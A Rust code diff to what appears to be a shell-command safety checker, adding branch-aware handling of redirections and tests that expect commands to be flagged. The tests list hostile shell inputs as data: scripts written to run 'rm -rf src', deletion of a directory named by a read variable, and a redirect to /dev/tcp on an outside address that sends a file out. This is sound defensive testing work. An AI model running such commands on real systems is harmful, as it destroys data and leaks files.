@@ -129,29 +129,66 @@ impl State {
 }
 
 impl Shell<'_> {
+    /// Joins what another way through the text has opened. What goes to a file on one of them only may be in it or not.
+    pub(super) fn join_streams(&mut self, there: &[(u32, Stream)]) {
+        if self.state.streams == there {
+            return;
+        }
+        let mut joined = std::mem::take(&mut self.state.streams);
+        let mut doubtful: Vec<Stream> = Vec::new();
+        for (number, other) in there {
+            match joined.iter_mut().find(|(here, _)| here == number) {
+                Some((_, here)) if here == other => {}
+                Some((_, here)) => {
+                    let input = match (here.input.take(), other.input.clone()) {
+                        (Some(here), Some(other)) => Some(here.or(other)),
+                        (here, other) => here.or(other).map(Feed::or_other),
+                    };
+                    // What leaves the machine on one way is the worse one.
+                    let kept = if other.connected { other.clone() } else { here.clone() };
+                    doubtful.extend([std::mem::replace(here, Stream { input, ..kept }), other.clone()]);
+                }
+                // What was never opened as one of these cannot be used, which is no way that matters.
+                None if *number > 2 || other.connected => joined.push((*number, other.clone())),
+                None => doubtful.push(other.clone()),
+            }
+        }
+        joined.retain_mut(|(number, here)| {
+            let shared = *number > 2 || here.connected || there.iter().any(|(other, _)| other == number);
+            if !shared {
+                doubtful.push(here.clone());
+                here.output = None;
+                here.input = here.input.take().map(Feed::or_other);
+            }
+            shared || here.input.is_some()
+        });
+        // The input of the shell itself may be what was opened, or what it was before.
+        for (number, other) in there.iter().filter(|(number, _)| *number == 0) {
+            if !joined.iter().any(|(here, _)| here == number) && other.input.is_some() {
+                let input = other.input.clone().map(Feed::or_other);
+                joined.push((*number, Stream { input, ..Stream::default() }));
+            }
+        }
+        self.state.lost_descriptor |= joined.len() > MAX_STREAMS;
+        self.state.streams = joined;
+        for sink in doubtful.into_iter().filter_map(|stream| stream.output) {
+            self.complain_into(&sink.place.path);
+        }
+    }
+
     /// Opens the redirections of a command.
     /// The same in each directory that the shell may stand in.
     pub(super) fn plumb_everywhere(&mut self, redirects: &[Redirect], stdin: Feed) -> Plumbing {
-        let before = self.state.clone();
-        let outer = self.looked_around.replace(false);
-        let mut plumbing = self.plumb(redirects, stdin.clone());
-        if self.looked_around.get() && !redirects.is_empty() {
-            for directory in &before.settings.elsewhere {
-                let written = std::mem::take(&mut self.state.written);
-                let there = State { cwd: Some(directory.clone()), written, ..before.clone() };
-                let here = std::mem::replace(&mut self.state, there);
-                self.state.settings.elsewhere.clear();
-                let other = self.plumb(redirects, stdin.clone());
-                if other.stdin != plumbing.stdin {
-                    plumbing.stdin = std::mem::take(&mut plumbing.stdin).or(other.stdin.clone());
-                }
-                plumbing.others.push(other);
-                let written = std::mem::take(&mut self.state.written);
-                self.state = State { written, ..here };
-            }
+        if redirects.is_empty() {
+            return Plumbing { stdin, ..Plumbing::default() };
         }
-        self.looked_around.set(outer || self.looked_around.get());
-        plumbing
+        let join = |all: &mut Plumbing, other: Plumbing| {
+            if other.stdin != all.stdin {
+                all.stdin = std::mem::take(&mut all.stdin).or(other.stdin.clone());
+            }
+            all.others.push(other);
+        };
+        self.everywhere(|shell| shell.plumb(redirects, stdin.clone()), join)
     }
 
     pub(super) fn plumb(&mut self, redirects: &[Redirect], stdin: Feed) -> Plumbing {
@@ -375,6 +412,11 @@ impl Shell<'_> {
         result
     }
 
+    /// Whether a command around the one at hand prints to this file, so that there may be more in it than is known.
+    pub(super) fn is_pouring(&self, path: &str) -> bool {
+        self.pouring.iter().any(|open| open == path)
+    }
+
     /// `exec` without a program: the redirections stay.
     pub(super) fn keep_streams(&mut self, plumbing: &Plumbing) {
         let mut opened: Option<Sink> = None;
@@ -485,5 +527,51 @@ fn is_descriptor(arg: &Arg) -> bool {
     match arg.known() {
         Some(text) => text == "-" || text.trim_end_matches('-').chars().all(|letter| letter.is_ascii_digit()),
         None => arg.value.prefix().is_empty(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use signoff_model::Verdict;
+
+    use crate::testing::check;
+
+    #[test]
+    fn what_is_being_written_may_be_read_already() {
+        check(
+            Verdict::Ask,
+            &[
+                "{ echo 'rm -rf src'; bash a.sh; } > a.sh",
+                "{ echo 'rm -rf src'; . ./a.sh; } > a.sh",
+                "{ echo 'rm -rf src'; ./a.sh; } > a.sh",
+                "{ echo 'rm -rf src'; sh < a.sh; } > a.sh",
+                "{ echo 'rm -rf src'; eval \"$(cat a.sh)\"; } > a.sh",
+            ],
+        );
+        check(Verdict::Allow, &["{ echo hi; cat b.txt; } > a.txt; cat a.txt", "bash run.sh > run.log"]);
+    }
+
+    #[test]
+    fn what_is_open_on_one_way_only_may_be_used() {
+        check(
+            Verdict::Ask,
+            &[
+                "if x; then exec > a.sh; else exec > b.sh; fi; echo 'rm -rf src'; bash a.sh",
+                "if x; then exec > a.sh; else exec > b.sh; fi; echo 'rm -rf src'; bash b.sh",
+                "if x; then exec > a.sh; fi; echo 'rm -rf src'; bash a.sh",
+                "if x; then exec 3< <(echo src); else exec 3< <(echo build); fi; read v <&3; rm -rf $v",
+                "exec 3< <(echo src); x && exec 3< <(echo build); read v <&3; rm -rf $v",
+                "if x; then exec <<< src; else exec <<< build; fi; read v; rm -rf $v",
+                "if x; then exec <<< build; fi; read v; rm -rf $v",
+                "if x; then exec > /dev/tcp/192.0.2.1/99; fi; cat notes.txt",
+            ],
+        );
+        check(
+            Verdict::Allow,
+            &[
+                "if [ -t 1 ]; then exec 3>&1; else exec 3>/dev/null; fi; echo hi >&3",
+                "[ -t 1 ] || exec > /tmp/log; make",
+            ],
+        );
     }
 }
